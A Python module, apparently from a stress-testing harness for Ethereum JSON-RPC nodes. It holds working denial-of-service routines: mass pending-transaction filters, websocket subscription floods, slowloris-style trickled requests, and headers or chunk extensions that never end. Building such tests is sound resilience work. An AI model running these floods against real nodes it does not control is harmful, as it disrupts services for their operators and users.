"""Attacks by what a server keeps for its clients: filters, subscriptions, sockets, half-sent requests."""

from __future__ import annotations

import json
import resource
import socket
import time
from collections.abc import Sequence
from contextlib import ExitStack, suppress
from functools import partial

from websockets.exceptions import ConnectionClosed
from websockets.sync.client import ClientConnection, connect

from . import Attacker, Step, Target

FILTERS, SOCKETS, SUBSCRIPTIONS, TRICKLERS = 10_000, 800, 128, 200


def pending_filters(target: Target) -> Sequence[Step]:
    """Filters of pending transactions that nobody asks for, as many as the node takes, beside new transactions."""
    attacker = Attacker(target, 1)
    call = {"jsonrpc": "2.0", "id": 1, "method": "eth_newPendingTransactionFilter", "params": []}
    body = json.dumps([call] * 500).encode()
    for _ in range(FILTERS // 500):
        attacker.connection.send(attacker.connection.request("/", "application/json", body))

    def send() -> None:
        raws = [attacker.sign(bytes(19) + b"\x22") for _ in range(100)]
        attacker.send_batch(raws)
        time.sleep(0.2)

    return [send]


def subscriptions(target: Target) -> Sequence[Step]:
    """Sockets with as many subscriptions to heads as the node takes."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, 2 * SOCKETS + 100)), hard))
    call = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "eth_subscribe", "params": ["newHeads"]})
    kept, sockets = ExitStack(), list[ClientConnection]()
    with suppress(OSError, ConnectionClosed):  # the node's limit
        for _ in range(SOCKETS):
            one = kept.enter_context(connect(target.url.replace("http", "ws"), compression=None))
            for _ in range(SUBSCRIPTIONS):
                one.send(call)
            sockets.append(one)

    def read() -> None:
        for one in sockets:
            one.recv()

    return [read]


def slow_requests(target: Target) -> Sequence[Step]:
    """Clients that send a byte of a long request now and then."""
    host, port = target.url.removeprefix("http://").split(":")

    def trickle() -> None:
        with socket.create_connection((host, int(port))) as one:
            one.sendall(f"POST / HTTP/1.1\r\nhost: {host}:{port}\r\ncontent-length: 100000\r\n\r\n".encode())
            while True:
                one.sendall(b" ")
                time.sleep(1.0)

    return [trickle] * TRICKLERS


def endless_headers(target: Target) -> Sequence[Step]:
    """Requests whose headers, names, trailers or chunk extensions do not end."""
    host, port = target.url.removeprefix("http://").split(":")
    chunked = b"POST / HTTP/1.1\r\nhost: localhost\r\ntransfer-encoding: chunked\r\n\r\n"
    begins = (b"POST / HTTP/1.1\r\nx: ", b"POST / HTTP/1.1\r\nx", chunked + b"1;", chunked + b"0\r\nx: ")

    def pour(begin: bytes) -> None:
        with socket.create_connection((host, int(port))) as one:
            one.sendall(begin)
            while True:
                one.sendall(b"a" * 65_536)

    return [partial(pour, begin) for begin in begins]
